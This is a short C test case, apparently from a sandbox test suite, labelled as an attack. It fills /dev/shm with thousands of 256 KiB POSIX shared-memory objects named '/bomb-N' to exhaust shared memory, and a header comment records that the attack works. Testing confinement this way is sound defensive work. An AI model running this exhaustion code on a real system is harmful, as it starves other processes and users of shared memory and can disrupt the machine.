/*
 * attack: POSIX objects until /dev/shm is full
 * fails: works
 */
#include "behave.h"

int main(int argc, char **argv)
{
    static char block[256 << 10];
    for (int i = 0; i < 4096; i++) {
        char name[32];
        snprintf(name, sizeof(name), "/bomb-%d", i);
        int fd = shm_open(name, O_RDWR | O_CREAT, 0600);
        if (fd == -1 || write(fd, block, sizeof(block)) != sizeof(block)) {
            break;
        }
        close(fd);
    }
    return behave(argc, argv);
}
